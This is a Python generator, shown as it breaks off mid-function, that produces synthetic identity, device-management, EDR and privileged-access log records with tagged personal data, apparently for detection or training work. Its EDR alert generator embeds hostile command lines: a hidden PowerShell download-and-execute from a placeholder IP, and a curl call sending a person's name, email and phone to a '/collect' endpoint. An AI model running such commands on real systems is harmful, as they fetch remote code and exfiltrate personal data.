"""Families 1-6: identity providers, MDM, EDR, privileged access, ITSM, collaboration audit."""

import names as NL
from common import CITIES, LOREM_APPS, device_of, disp, epoch, host_of, iso, logts
from core import JS, C, E, I, N, P, Rec, S, csv_row, encp, form, jesc_ascii, jx, pct, xesc

# ============================================================ 1. idp_signin
ENTRA_ERR = [(0, "Success", "Success"), (50126, "Failure", "Error validating credentials due to invalid username or password."),
             (50074, "Interrupted", "Strong Authentication is required."),
             (53003, "Failure", "Access has been blocked by Conditional Access policies. The access policy does not allow token issuance."),
             (50140, "Interrupted", "This error occurred due to 'Keep me signed in' interrupt when the user was signing in.")]


def idp_entra_json(x):
    p = x.person()
    upn = x.email(p, x.pick(["contoso.example", "fabrikam.example", "corp.example.com"]))
    ip, t, tid = x.ip(0.25), x.ts(), x.uuid()
    code, _, reason = x.pick(ENTRA_ERR)
    city, state, cc = x.pick(CITIES)
    dn = disp(x, p)
    dev = JS(*host_of(x, p)) if x.chance(0.5) else ""
    props = {"id": x.uuid(), "createdDateTime": iso(t, 0), "userDisplayName": N(dn), "userPrincipalName": E(upn),
             "userId": x.uuid(), "appId": x.uuid(), "appDisplayName": x.pick(LOREM_APPS), "ipAddress": I(ip),
             "clientAppUsed": x.pick(["Browser", "Mobile Apps and Desktop clients"]), "correlationId": x.uuid(),
             "conditionalAccessStatus": x.pick(["success", "notApplied", "failure"]), "isInteractive": True,
             "riskDetail": "none", "riskLevelAggregated": "none",
             "status": {"errorCode": code, "failureReason": reason, "additionalDetails": None},
             "deviceDetail": {"deviceId": "", "displayName": dev, "operatingSystem": x.pick(["Windows10", "MacOs", "Ios"]),
                              "browser": x.pick(["Edge 131.0.0", "Chrome 130.0.0", "Safari 17.4"])},
             "location": {"city": city, "state": state, "countryOrRegion": cc}}
    obj = {"time": iso(t, 7), "resourceId": f"/tenants/{tid}/providers/Microsoft.aadiam",
           "operationName": "Sign-in activity", "operationVersion": "1.0", "category": "SignInLogs", "tenantId": tid,
           "resultType": str(code), "resultSignature": "None", "resultDescription": reason, "durationMs": 0,
           "callerIpAddress": I(ip), "correlationId": props["correlationId"], "identity": N(dn), "Level": 4,
           "location": cc, "properties": props}
    return Rec().doc("json", jx(obj, x.pick([None, None, 2])))


def idp_entra_csv(x):
    r = Rec()
    if x.chance(0.6):
        r.add("Date (UTC),Request ID,User,Username,User ID,Application,IP address,Location,Status,"
              "Sign-in error code,Failure reason,Client app,Browser,Operating System,Conditional Access\n")
    for i in range(x.num(1, 3)):
        p = x.person()
        code, status, reason = x.pick(ENTRA_ERR)
        city, state, cc = x.pick(CITIES)
        r.add("\n" if i else "", csv_row([iso(x.ts(), 0), x.uuid(), [N(disp(x, p))], [E(x.email(p))], x.uuid(),
              x.pick(LOREM_APPS), [I(x.ip(0.2))], f"{city}, {state}, {cc}", status, str(code), reason, "Browser",
              x.pick(["Chrome 131.0.0", "Edge 130.0.0", "Firefox 133.0"]), x.pick(["Windows10", "MacOs", "Linux"]),
              x.pick(["Success", "Not Applied", "Failure"])]))
    return r


def idp_keycloak(x):
    p = x.person()
    t = x.ts()
    uname = x.pick([E(x.email(p)), N(x.acct(p)), N(x.acct(p))])
    ip = x.ip(0.15)
    err = x.chance(0.5)
    typ = x.pick(["LOGIN_ERROR", "UPDATE_PASSWORD_ERROR"]) if err else x.pick(["LOGIN", "CODE_TO_TOKEN", "UPDATE_PROFILE"])
    realm, client = x.pick(["staff", "customers", "partners"]), x.pick(["grafana", "account-console", "jira", "argocd"])
    q = x.chance(0.6)
    kv = (lambda k, v: [f'{k}="', v, '"']) if q else (lambda k, v: [f"{k}=", v])
    fields = [kv("type", typ), kv("realmId", x.uuid()), kv("realmName", realm), kv("clientId", client),
              kv("userId", "null" if err and x.chance(0.5) else x.uuid()), kv("ipAddress", I(ip))]
    if err:
        fields.append(kv("error", x.pick(["invalid_user_credentials", "user_not_found", "user_temporarily_disabled"])))
    fields += [kv("auth_method", "openid-connect"), kv("redirect_uri", f"https://{client}.example.com/login/generic_oauth"),
               kv("code_id", x.uuid()), kv("username", uname)]
    r = Rec().add(logts(t), " ", "WARN " if err else "DEBUG", " [org.keycloak.events] (executor-thread-",
                  str(x.num(1, 64)), ") ")
    for i, f in enumerate(fields):
        r.add(", " if i else "", f)
    if x.chance(0.35):
        q2 = x.person()
        rep = {"id": x.uuid(), "username": N(x.acct(q2)), "firstName": N(q2.g), "lastName": N(q2.f),
               "email": E(x.email(q2)), "emailVerified": True,
               "attributes": {"phoneNumber": [P(x.phone())]}}
        r.add("\n", logts(x.ts()), " DEBUG [org.keycloak.events] (executor-thread-", str(x.num(1, 64)),
              ') operationType="UPDATE", realmId="', x.uuid(), '", clientId="', x.uuid(), '", userId="', x.uuid(),
              '", ipAddress="', I(ip), '", resourceType="USER", resourcePath="users/', x.uuid(), '", representation=')
        r.doc("json", jx(rep))
    return r


def idp_duo(x):
    p = x.person()
    t = x.ts()
    city, state, cc = x.pick(CITIES)
    res = x.pick([("success", "user_approved"), ("denied", "user_marked_fraud"), ("denied", "no_response"),
                  ("success", "valid_passcode")])
    obj = {"access_device": {"browser": "Chrome", "browser_version": "131.0.6778.86", "hostname": None,
                             "ip": I(x.ip(0.2)), "location": {"city": city, "country": cc, "state": state},
                             "os": x.pick(["Windows", "Mac OS X", "Linux"])},
           "alias": "", "application": {"key": "DI" + x.hexs(18).upper(), "name": x.pick(["Cisco VPN", "RDP Gateway", "Jira SSO"])},
           "auth_device": {"ip": I(x.ip4()) if x.chance(0.5) else None, "location": {"city": city, "country": cc, "state": state},
                           "name": P(x.phone())},
           "email": E(x.email(p)), "event_type": "authentication", "factor": x.pick(["duo_push", "phone_call", "passcode"]),
           "isotimestamp": iso(t, 6, "+00:00"), "reason": res[1], "result": res[0], "timestamp": epoch(t),
           "txid": x.uuid(), "user": {"groups": [x.pick(["Staff VPN", "Engineering", "Finance"])],
                                      "key": "DU" + x.hexs(18).upper(), "name": N(x.acct(p))}}
    if x.chance(0.4):
        return Rec().add(iso(t, 3), " duo-log-sync[", str(x.num(900, 9999)), "]: ").doc("json", jx(obj, None, jesc_ascii, (", ", ": ")))
    return Rec().doc("json", jx(obj, x.pick([None, 2])))


def idp_shibboleth(x):
    p = x.person()
    t = x.ts()
    ip = x.ip4()
    acct = x.acct(p)
    ok = x.chance(0.6)
    pre = lambda: [logts(x.ts()), " - ", I(ip), " - "]
    r = Rec().add(pre(), "INFO [net.shibboleth.idp.authn.impl.ValidateUsernamePasswordAgainstLDAP:152] - Profile Action "
                  "ValidateUsernamePasswordAgainstLDAP: Login by '", N(acct), "' ", "succeeded" if ok else "failed")
    if ok:
        sp = x.pick(["https://sp.example.org/shibboleth", "https://wiki.example.edu/sp", "urn:amazon:webservices"])
        r.add("\n", pre(), "INFO [Shibboleth-Audit.SSO:283] - ", I(ip), "|", iso(t), "|", iso(t), "|", N(acct), "|", sp,
              "|_", x.hexs(32), "|password|", iso(t), "|uid,mail,displayName,eduPersonPrincipalName|AAdzZWNyZXQx",
              x.hexs(20), "|false|false")
    else:
        r.add("\n", pre(), "WARN [net.shibboleth.idp.authn.impl.ValidateUsernamePasswordAgainstLDAP:182] - Profile Action "
              "ValidateUsernamePasswordAgainstLDAP: Login by '", N(acct), "' failed\n",
              "javax.security.auth.login.FailedLoginException: ", x.pick(["INVALID_CREDENTIALS", "ACCOUNT_LOCKED"]),
              "\n\tat net.shibboleth.idp.authn.impl.ValidateUsernamePasswordAgainstLDAP.doExecute(ValidateUsernamePasswordAgainstLDAP.java:178)")
    return r


def idp_entra_audit(x):
    a, b = x.person(), x.person()
    t = x.ts()
    mods = [{"displayName": "TelephoneNumber", "oldValue": JS('["', P(x.phone()), '"]'), "newValue": JS('["', P(x.phone()), '"]')}]
    if x.chance(0.5):
        mods.append({"displayName": "Manager", "oldValue": "[]", "newValue": JS('["', N(disp(x, a)), '"]')})
    obj = {"id": "Directory_" + x.uuid(), "category": "UserManagement", "correlationId": x.uuid(), "result": "success",
           "resultReason": "", "activityDisplayName": "Update user", "activityDateTime": iso(t, 7),
           "loggedByService": "Core Directory", "operationType": "Update",
           "initiatedBy": {"app": None, "user": {"id": x.uuid(), "displayName": N(disp(x, a)),
                                                 "userPrincipalName": E(x.email(a)), "ipAddress": I(x.ip(0.2))}},
           "targetResources": [{"id": x.uuid(), "displayName": N(disp(x, b)), "type": "User",
                                "userPrincipalName": E(x.email(b)), "modifiedProperties": mods}]}
    return Rec().doc("json", jx(obj, x.pick([None, 2, 4])))


def idp_neg_mi(x):
    t = x.ts()
    obj = {"time": iso(t, 7), "operationName": "Sign-in activity", "category": "ManagedIdentitySignInLogs",
           "resultType": "0", "properties": {"id": x.uuid(), "createdDateTime": iso(t, 0),
           "servicePrincipalName": x.pick(["func-billing-prod", "aks-agentpool-identity", "logic-app-Victoria-sync", "adf-hudson-etl"]),
           "servicePrincipalId": x.uuid(), "resourceDisplayName": x.pick(["Azure Key Vault", "Microsoft Graph", "Azure Storage"]),
           "managedIdentityType": x.pick(["SystemAssigned", "UserAssigned"]), "status": {"errorCode": 0},
           "appId": x.uuid(), "conditionalAccessStatus": "notApplied"}}
    return Rec().doc("json", jx(obj, x.pick([None, 2])))


def idp_neg_keycloak(x):
    t = x.ts()
    msg = x.pick([
        "[org.keycloak.services] (main) KC-SERVICES0009: Added user 'admin' to realm 'master'",
        "[org.keycloak.quarkus.runtime.hostname.DefaultHostnameProvider] (main) Hostname settings: Base URL: <unset>, "
        "Hostname: sso.example.com, Strict HTTPS: true, Path: <request>, Strict BackChannel: false",
        "[org.keycloak.services] (main) KC-SERVICES0077: Created temporary admin user with username temp-admin",
        "[org.keycloak.events] (executor-thread-3) Realm 'Madison' imported with 4 clients and 0 users",
        "[io.quarkus] (main) Keycloak 26.0.7 on JVM (powered by Quarkus 3.15.1) started in 7.412s. Listening on: https://sso.example.com:8443",
        "[org.infinispan.CLUSTER] (jgroups-7,kc-Grace-0) ISPN000094: Received new cluster view for channel ISPN: [kc-Grace-0|3] (2)"])
    return Rec().add(logts(t), " ", x.pick(["INFO ", "WARN "]), " ", msg)


def idp_neg_duo_admin(x):
    t = x.ts()
    name = x.pick(["Jenkins CI", "Splunk Connector", "Gerrit SSO", "Cassandra Ops Portal", "Florence Kiosk"])
    desc = {"name": name, "type": x.pick(["Auth API", "Admin API", "Web SDK"]), "adminapi_read_log": True}
    obj = {"action": x.pick(["integration_create", "integration_update"]), "description": JS(*jx(desc, None, lambda s: s, (", ", ": "))),
           "isotimestamp": iso(t, 6, "+00:00"), "object": name, "timestamp": epoch(t), "username": "API"}
    return Rec().doc("json", jx(obj))


def idp_neg_shib(x):
    t = x.ts()
    return Rec().add(logts(t), " -  - INFO [org.opensaml.saml.metadata.resolver.impl.AbstractReloadingMetadataResolver:563] - "
                     "Metadata Resolver FileBackedHTTPMetadataResolver ", x.pick(["InCommonMetadata", "eduGAIN", "Adelaide-Federation"]),
                     ": Next refresh cycle for metadata provider 'https://mdq.example.org/entities' will occur on '",
                     iso(x.ts()), "'")


# ============================================================ 2. mdm_devices
def mdm_jamf_log(x):
    p = x.person()
    t = x.ts()
    k = x.num(0, 2)
    r = Rec().add(logts(t), " [", x.pick(["INFO ", "WARN ", "DEBUG"]), "] [Tomcat-", str(x.num(1, 500)).ljust(9), "] ")
    serial = "C02" + x.hexs(9).upper()
    if k == 0:
        r.add("[MobileDeviceEnrollmentHelper] - Mobile device enrolled: ", device_of(x, p), " (serial ", serial,
              "), user=", E(x.email(p)), ', full name="', N(p.full()), '", IP ', I(x.ip4()))
    elif k == 1:
        dn = ["CN=", N(p.f + "\\, " + p.g), ",OU=Staff,DC=corp,DC=example,DC=com"] if x.chance(0.5) else \
             ["CN=", N(p.full()), ",OU=", x.pick(["Sales", "Engineering", "HR"]), ",DC=corp,DC=example,DC=com"]
        r.add('[LDAPConnection] - User lookup for "', N(x.acct(p)), '" returned ', str(x.num(2, 3)), ' results; using "', dn, '"')
    else:
        r.add("[ComputerInventoryHelper] - Submitted inventory for computer \"", host_of(x, p), "\" (serial ", serial,
              "), username=", N(x.acct(p)), ", real name=", N(x.pick([p.full(), p.up()])), ", phone=", P(x.phone()),
              ", last ip=", I(x.ip(0.2)))
    return r


def mdm_jamf_xml(x):
    p = x.person()
    ind = "\n    "
    r = Rec()
    r.doc("xml", "<computer>\n  <general>", ind, "<id>", str(x.num(100, 9999)), "</id>", ind, "<name>", host_of(x, p), "</name>",
          ind, "<ip_address>", I(x.ip4("doc")), "</ip_address>", ind, "<last_reported_ip>", I(x.ip4("priv")),
          "</last_reported_ip>", ind, "<serial_number>C02", x.hexs(9).upper(), "</serial_number>", ind,
          "<remote_management><managed>true</managed><management_username>jamfadmin</management_username></remote_management>",
          "\n  </general>\n  <location>", ind, "<username>", N(x.acct(p)), "</username>", ind, "<realname>",
          encp([N(p.nat())], xesc), "</realname>", ind, "<real_name>", encp([N(p.full())], xesc), "</real_name>", ind,
          "<email_address>", E(x.email(p)), "</email_address>", ind, "<position>",
          x.pick(["Engineer", "Accountant", "Sales Lead"]), "</position>", ind, "<phone>", P(x.phone()), "</phone>", ind,
          "<phone_number>", P(x.phone()), "</phone_number>", ind, "<department>", x.pick(["Finance", "IT", "Legal"]),
          "</department>", ind, "<building>", x.pick(NL.PLACES_LIKE_NAMES), " HQ</building>", ind, "<room>",
          x.pick(NL.ROOMS_LIKE_PEOPLE), "</room>\n  </location>\n</computer>")
    return r


def mdm_intune_csv(x):
    r = Rec()
    if x.chance(0.6):
        r.add("Device name,Managed by,Ownership,Compliance,OS,OS version,Last check-in,Primary user UPN,"
              "Primary user display name,Primary user email address,Phone number,Serial number\n")
    for i in range(x.num(1, 3)):
        p = x.person()
        em = x.email(p, "contoso.example")
        r.add("\n" if i else "", csv_row([device_of(x, p), "Intune", x.pick(["Corporate", "Personal"]),
              x.pick(["Compliant", "Noncompliant", "In grace period"])] + list(x.pick([("iOS", "17.4.1"), ("Android", "14"),
              ("Windows", "10.0.22631.4317"), ("iPadOS", "18.1")])) + [ x.ts().strftime("%m/%d/%Y %I:%M:%S %p"), [E(em)],
              [N(disp(x, p))], [E(em)], [P(x.phone())] if x.chance(0.8) else "", x.hexs(12).upper()]))
    return r


def mdm_ime_cmtrace(x):
    p = x.person()
    t = x.ts()
    upn = x.email(p, "contoso.example")
    sid = "S-1-12-1-" + x.sid()[9:]
    msg = x.pick([["[Win32App] Processing app '", x.pick(["Company Portal", "7-Zip 24.08", "Zoom Workplace"]),
                   "' for user ", sid, " (", E(upn), ")"],
                  ["[Win32App] ExecManager: user session ", str(x.num(1, 4)), " is logged on by ", N(x.acct(p)),
                   ", UPN ", E(upn)],
                  ["[PowerShell] Script output: Mapped drive H: to \\\\fs01\\home$\\", N(x.acct(p)), " for ", N(p.full())]])
    return Rec().add("<![LOG[", msg, "]LOG]!><time=\"", t.strftime("%H:%M:%S"), ".", str(x.num(1000000, 9999999)),
                     "\" date=\"", f"{t.month}-{t.day}-{t.year}", "\" component=\"IntuneManagementExtension\" context=\"\" type=\"1\" thread=\"",
                     str(x.num(3, 60)), "\" file=\"\">")


def mdm_jamf_webhook(x):
    p = x.person()
    ev = x.pick(["MobileDeviceEnrolled", "MobileDeviceCheckIn", "ComputerAdded"])
    mobile = ev.startswith("Mobile")
    e = {"deviceName": JS(*device_of(x, p)) if mobile else JS(*host_of(x, p)), "emailAddress": E(x.email(p)),
         "ipAddress": I(x.ip(0.2)), "phone": P(x.phone()), "position": x.pick(["Designer", "Nurse", "Analyst"]),
         "realName": N(p.nat()), "username": N(x.acct(p)), "serialNumber": x.hexs(12).upper(), "udid": x.uuid().upper(),
         "model": x.pick(["iPhone 15 Pro", "iPad Air (5th generation)", "MacBook Pro (14-inch, M3)"]),
         "osVersion": x.pick(["17.4.1", "14.4", "18.1"]), "room": x.pick(NL.ROOMS_LIKE_PEOPLE)}
    obj = {"webhook": {"id": x.num(1, 40), "name": x.pick(["Enroll to Slack", "SIEM forward", "Inventory sync"]),
                       "webhookEvent": ev}, "event": e}
    return Rec().add(logts(x.ts()), " INFO  [webhook-receiver] POST /jamf/events body=").doc("json", jx(obj)) if x.chance(0.4) \
        else Rec().doc("json", jx(obj, x.pick([None, 2])))


def mdm_wipe_prose(x):
    p, a = x.person(), x.person()
    dev = device_of(x, p)
    lang = x.num(0, 2)
    if lang == 0:
        return Rec().add("Remote wipe issued for \"", dev, "\" (owner ", N(p.full()), ", ", P(x.phone()), ") by admin ",
                         N(x.acct(a)), "; reason: \"Reported stolen by ", N(p.g), " at front desk\"")
    if lang == 1:
        return Rec().add("Bloqueo remoto enviado a \"", dev, "\" (propietario: ", N(p.full()), ") por ", N(a.full()),
                         ". Motivo: dispositivo perdido, contactar al ", P(x.phone()))
    return Rec().add("Lost Mode enabled on ", dev, " by ", N(a.full()), " <", E(x.email(a)), ">. Lock screen message: \"If found, please call ",
                     P(x.phone()), " (", N(p.g), ")\"")


def mdm_neg_jamf(x):
    t = x.ts()
    msg = x.pick([f'[JSSPolicyHelper] - Policy "Install Google Chrome" (id {x.num(1, 900)}) completed on {x.num(2, 400)} computers',
                  f"[APNSConnection] - APNs certificate expires in {x.num(2, 60)} days",
                  f'[MobileDeviceEnrollmentHelper] - Mobile device enrolled: Loaner-iPad-{x.num(1, 40):02d} (serial F{x.hexs(11).upper()}), user=loaner',
                  f'[SmartGroupHelper] - Smart group "Victoria Office Macs" recalculated: {x.num(1, 300)} members',
                  f'[ComputerInventoryHelper] - Submitted inventory for computer "{x.pick(NL.ROOMS_LIKE_PEOPLE)} Display" (serial C02{x.hexs(9).upper()}), username=, real name=',
                  '[DEPSyncHelper] - Automated Device Enrollment sync complete for instance "Apple Business Manager - Porsche AG"'])
    return Rec().add(logts(t), " [INFO ] [Tomcat-", str(x.num(1, 500)).ljust(9), "] ", msg)


def mdm_neg_intune(x):
    r = Rec().add("Device name,Managed by,Ownership,Compliance,OS,OS version,Last check-in,Primary user UPN\n")
    for i in range(x.num(1, 3)):
        r.add("\n" if i else "", csv_row([x.pick(["KIOSK-LOBBY-02", f"{x.pick(NL.ROOMS_LIKE_PEOPLE)} iPad",
                                                   f"Teams Room - {x.pick(NL.PLACES_LIKE_NAMES)}", f"SHARED-PC-{x.num(1, 99):03d}"]),
                                          "Intune", "Corporate", x.pick(["Compliant", "Not evaluated"]), "Windows",
                                          "10.0.22631.4317", x.ts().strftime("%m/%d/%Y %I:%M:%S %p"), ""]))
    return r


def mdm_neg_cmtrace(x):
    t = x.ts()
    msg = x.pick(["[Win32App] Processing app 'Company Portal' in SYSTEM context",
                  "[Win32App] Detection rule for app 'Cassandra Client 4.1' returned NotDetected",
                  "[Win32App] ESP check: device setup phase complete, user setup phase skipped (userless)",
                  "[PowerShell] Script ID " + x.uuid() + " executed successfully as SYSTEM"])
    return Rec().add("<![LOG[", msg, "]LOG]!><time=\"", t.strftime("%H:%M:%S"), ".", str(x.num(1000000, 9999999)),
                     "\" date=\"", f"{t.month}-{t.day}-{t.year}", "\" component=\"AppActionProcessor\" context=\"\" type=\"1\" thread=\"",
                     str(x.num(3, 60)), "\" file=\"\">")


# ============================================================ 3. edr_alerts
def _userpath(x, acct):
    return x.pick([["C:\\Users\\", N(acct), "\\Downloads\\"], ["C:\\Users\\", N(acct), "\\AppData\\Local\\Temp\\"]])


def edr_falcon(x):
    p = x.person()
    acct = x.acct(p, x.pick(["flast", "first.last", "firstl"]))
    t = x.ts()
    ev = {"ProcessStartTime": epoch(t), "ProcessEndTime": 0, "ComputerName": JS(*host_of(x, p)), "UserName": N(acct),
          "DetectName": x.pick(["Suspicious PowerShell", "Credential Dumping", "Malicious Document"]),
          "DetectDescription": "A process triggered a high severity detection.", "Severity": x.num(3, 5),
          "SeverityName": x.pick(["High", "Critical", "Medium"]), "FileName": "powershell.exe",
          "FilePath": "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0",
          "CommandLine": x.pick([
              JS("powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://",
                 I(x.ip4("doc")), "/a.ps1')\" > ", *_userpath(x, acct), "out.txt"),
              JS("curl.exe -s -d \"name=", N(form(p.full())), "&email=", E(form(x.email(p))), "&tel=", P(form(x.phone())),
                 "\" http://", I(x.ip4("doc")), "/collect")]),
          "LocalIP": I(x.ip4("priv")), "MACAddress": "-".join(x.hexs(2) for _ in range(6)), "MachineDomain": "CORP",
          "Tactic": "Execution", "Technique": "PowerShell", "Objective": "Follow Through",
          "FalconHostLink": f"https://falcon.crowdstrike.com/activity/detections/detail/{x.hexs(32)}/{x.num(1000, 99999)}"}
    obj = {"metadata": {"customerIDString": x.hexs(32), "offset": x.num(1000, 999999), "eventType": "DetectionSummaryEvent",
                        "eventCreationTime": epoch(t) * 1000, "version": "1.0"}, "event": ev}
    return Rec().doc("json", jx(obj, x.pick([None, 2])))


def edr_mde_csv(x):
    r = Rec().add("Timestamp,DeviceName,ActionType,FileName,FolderPath,ProcessCommandLine,AccountDomain,AccountName,AccountUpn,RemoteIP\n")
    for i in range(x.num(1, 3)):
        p = x.person()
        acct = x.acct(p)
        r.add("\n" if i else "", csv_row([iso(x.ts(), 7), [x.pick(["ws-", "lt-"]), N(acct), ".corp.example.com"],
                                           x.pick(["ProcessCreated", "ConnectionSuccess"]), "rundll32.exe",
                                           ["C:\\Users\\", N(acct), "\\AppData\\Roaming\\"],
                                           ["rundll32.exe C:\\Users\\", N(acct), "\\AppData\\Roaming\\upd.dll,Start"],
                                           "corp", [N(acct)], [E(x.email(p, "corp.example.com"))], [I(x.ip(0.2))]]))
    return r


def edr_graph_alert(x):
    p = x.person()
    acct = x.acct(p)
    obj = {"id": "da" + x.hexs(30), "providerAlertId": x.hexs(20), "title": x.pick(["Suspicious sign-in followed by inbox rule creation",
           "Possible credential theft activity", "Anomalous token usage"]), "severity": x.pick(["high", "medium"]),
           "status": "new", "createdDateTime": iso(x.ts(), 7),
           "evidence": [{"@odata.type": "#microsoft.graph.security.userEvidence", "roles": [], "verdict": "suspicious",
                         "userAccount": {"accountName": N(acct), "domainName": "CORP", "userSid": x.sid(),
                                         "azureAdUserId": x.uuid(), "userPrincipalName": E(x.email(p)), "displayName": N(disp(x, p))}},
                        {"@odata.type": "#microsoft.graph.security.ipEvidence", "ipAddress": I(x.ip(0.3)), "countryLetterCode": "NL"},
                        {"@odata.type": "#microsoft.graph.security.deviceEvidence", "deviceDnsName": JS(*host_of(x, p), ".corp.example.com"),
                         "loggedOnUsers": [{"accountName": N(acct), "domainName": "CORP"}]}]}
    return Rec().doc("json", jx(obj, x.pick([None, 2])))


def edr_s1(x):
    p = x.person()
    acct = x.acct(p)
    obj = {"agentRealtimeInfo": {"agentComputerName": JS(*host_of(x, p)), "agentDomain": "CORP",
                                 "agentLastLoggedInUserName": JS("CORP\\", N(acct)), "agentNetworkStatus": "connected",
                                 "agentOsName": "Windows 11 Enterprise"},
           "threatInfo": {"threatName": "invoice_2026.pdf.exe", "classification": "Trojan", "confidenceLevel": "malicious",
                          "filePath": JS("\\Device\\HarddiskVolume3\\Users\\", N(acct), "\\Downloads\\invoice_2026.pdf.exe"),
                          "processUser": JS("CORP\\", N(acct)), "originatorProcess": "outlook.exe", "mitigationStatus": "mitigated"},
           "indicators": [], "agentDetectionInfo": {"agentIpV4": I(x.ip4("priv")), "externalIp": I(x.ip4("doc"))}}
    return Rec().doc("json", jx(obj, x.pick([None, 2])))


def edr_triage_text(x):
    p = x.person()
    acct = x.acct(p)
    if x.chance(0.5):
        return Rec().add("[", x.pick(["HIGH", "CRITICAL"]), "] Detection on ", host_of(x, p), ": user ", N(p.full()), " (", N(acct),
                         ") ran an unsigned binary from ", _userpath(x, acct), "setup.exe; contacted ", I(x.ip4("doc")),
                         ":443. Assigned to ", N(x.person().full()), ".")
    q = x.person()
    return Rec().add("triage.enrich: built ", "Detection(host='", host_of(x, p), "', user=User(name='", N(acct),
                     "', display_name='", N(p.full()), "', email='", E(x.email(p)), "'), local_ip='", I(x.ip4("priv")),
                     "', severity=", str(x.num(2, 5)), ", assignee=Analyst(first_name='", N(q.g), "', last_name='", N(q.f), "'))")


def edr_neg_falcon(x):
    ev = {"ComputerName": x.pick(["BLD-KIOSK-02", "SQL-PROD-07", "JENKINS-AGENT-3", "DC01"]),
          "UserName": x.pick(["SYSTEM", "svc_sccm", "LOCAL SERVICE", "BLD-AGENT-07$"]),
          "DetectName": x.pick(["Sensor Update", "Machine Learning (Low)", "Policy Change"]),
          "SeverityName": "Informational", "FileName": "CSFalconService.exe", "Tactic": "", "Technique": "",
          "PolicyName": x.pick(["Default Windows Policy", "Servers - Hudson Cluster", "Phase 2 - Detect Only"])}
    obj = {"metadata": {"eventType": "DetectionSummaryEvent", "offset": x.num(1000, 99999)}, "event": ev}
    return Rec().doc("json", jx(obj, x.pick([None, 2])))


def edr_neg_text(x):
    return Rec().add(x.pick([f"[INFO] Sensor version 7.{x.num(10, 19)}.{x.num(10000, 19999)} deployed to {x.num(10, 900)} hosts in group \"{x.pick(NL.PLACES_LIKE_NAMES)} Servers\"",
                             f"[LOW] Detection on BLD-AGENT-{x.num(1, 30):02d}: user NT AUTHORITY\\SYSTEM ran msiexec.exe from C:\\Windows\\Temp; verdict False Positive",
                             f"[MEDIUM] Detection on JENKINS-AGENT-{x.num(1, 9)}: user svc-jenkins ran java.exe (hudson.remoting.Launcher); status Mitigated",
                             "triage.enrich: built Detection(host='DC01', user=User(name='SYSTEM', display_name='', email=None), local_ip=None, severity=1)"]))


# ============================================================ 4. pam_access
def pam_vault_audit(x):
    p = x.person()
    if x.chance(0.5):
        em = x.email(p)
        dn, meta = JS("oidc-", E(em)), {"role": x.pick(["engineer", "oncall"]), "username": E(em)}
    else:
        ac = x.acct(p)
        pre = x.pick(["ldap-", "ldap-", "kerberos-"])
        dn = JS(pre, N(ac), "@CORP.EXAMPLE.COM") if pre == "kerberos-" else JS(pre, N(ac))
        meta = {"username": N(ac)} if pre == "ldap-" else {"user": N(ac), "domain": "CORP.EXAMPLE.COM"}
    obj = {"time": iso(x.ts(), 6), "type": x.pick(["request", "response"]),
           "auth": {"client_token": "hmac-sha256:" + x.hexs(64), "accessor": "hmac-sha256:" + x.hexs(64), "display_name": dn,
                    "policies": ["default", x.pick(["dev-readonly", "payments-admin"])], "metadata": meta,
                    "entity_id": x.uuid(), "token_type": "service"},
           "request": {"id": x.uuid(), "operation": x.pick(["read", "update", "list"]), "mount_type": "kv",
                       "path": x.pick(["secret/data/team/payments", "secret/data/db/orders", "database/creds/readonly"]),
                       "remote_address": I(x.ip(0.2)), "remote_port": x.num(1025, 65000)}}
    return Rec().doc("json", jx(obj, x.pick([None, None, 2])))


def pam_teleport(x):
    p = x.person()
    user = x.pick([E(x.email(p)), N(x.acct(p))])
    ok = x.chance(0.6)
    ip = x.ip(0.2)
    port = str(x.num(1025, 65000))
    ra = JS("[", I(ip), "]:", port) if ":" in ip else JS(I(ip), ":", port)
    if ok:
        obj = {"addr.remote": ra, "cluster_name": "prod", "code": "T2000I", "ei": 0, "event": "session.start",
               "login": x.pick(["root", "ubuntu", "postgres"]), "namespace": "default", "server_addr": JS(I(x.ip4("priv")), ":3022"),
               "server_hostname": x.pick(["db-01", "bastion-eu", "orion-app-3"]), "sid": x.uuid(), "size": "80:25",
               "time": iso(x.ts()), "uid": x.uuid(), "user": user}
    else:
        obj = {"addr.remote": ra, "code": "T1000W", "error": "invalid credentials", "event": "user.login",
               "method": "local", "success": False, "time": iso(x.ts()), "uid": x.uuid(), "user": user}
    return Rec().doc("json", jx(obj, x.pick([None, 2])))


def pam_cyberark_csv(x):
    r = Rec()
    if x.chance(0.6):
        r.add("Time,User,Action,Safe,Target,Reason,Client IP\n")
    for i in range(x.num(1, 3)):
        p, a = x.person(), x.person()
        r.add("\n" if i else "", csv_row([x.ts().strftime("%Y-%m-%d %H:%M:%S"), [N(x.acct(p))],
              x.pick(["Retrieve Password", "Connect", "Retrieve File"]), x.pick(["Linux-Root-Prod", "Windows-DomainAdmins", "DB-Oracle-Fin"]),
              f"Operating System-UnixSSH-{x.pick(['db-01', 'app-07', 'orion-2'])}-root",
              [x.pick(["Approved by ", "Dual control: "]), N(a.full()), f", INC00{x.num(10000, 99999)}"], [I(x.ip4())]]))
    return r


def pam_secretserver(x):
    p, a = x.person(), x.person()
    return Rec().add(logts(x.ts()), " [INFO] SecretAudit - Action=", x.pick(["CHECK OUT", "VIEW", "LAUNCH"]),
                     " SecretId=", str(x.num(100, 9999)), ' SecretName="Domain Admin - ', N(p.full()), '" User=CORP\\',
                     N(x.acct(p)), ' DisplayName="', N(p.lf()), '" IpAddress=', I(x.ip4()), ' Notes="Break-glass for CHG00',
                     str(x.num(10000, 99999)), ", approved by ", N(a.full()), '"')


def pam_itatslog(x):
    p = x.person()
    acct = x.acct(p)
    t = x.ts().strftime("%d/%m/%Y %H:%M:%S")
    lines = [[t, " ITATS004E Authentication failure for User ", N(acct), "."],
             [t, " ITATS006I Station ", I(x.ip4()), " (", N(acct), ") ", x.pick(["logged on", "disconnected"]), "."],
             [t, " ITADB313E Failure: User ", N(acct.upper()), " is suspended (too many failed logon attempts)."]]
    r = Rec()
    for i, ln in enumerate(x.r.sample(lines, x.num(1, 3))):
        r.add("\n" if i else "", ln)
    return r


def pam_request_prose(x):
    p, a, b = x.person(), x.person(), x.person()
    return Rec().add("Access request #", str(x.num(1000, 9999)), " for safe '", x.pick(["Finance-Prod", "HR-Payroll", "Jenkins-Prod"]),
                     "' submitted by ", N(p.full()), " <", E(x.email(p)), "> was ", x.pick(["approved", "rejected"]), " by ",
                     N(a.full()), " (", N(x.acct(a)), "). Escalation: ", N(a.g), " -> ", N(b.full()),
